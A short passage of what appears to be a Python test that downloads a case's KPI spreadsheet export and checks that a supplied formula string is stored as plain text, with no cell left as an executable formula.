        got = lead.get(f"/cases/{slug}/kpi.xlsx", params={"from": "2024-06-01", "to": "2024-06-30"})
    assert got.status_code == 200, got.text
    cells = [c for ws in load_workbook(BytesIO(got.content)) for row in ws.iter_rows() for c in row]
    assert formula in [c.value for c in cells]  # shown as the text it is
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
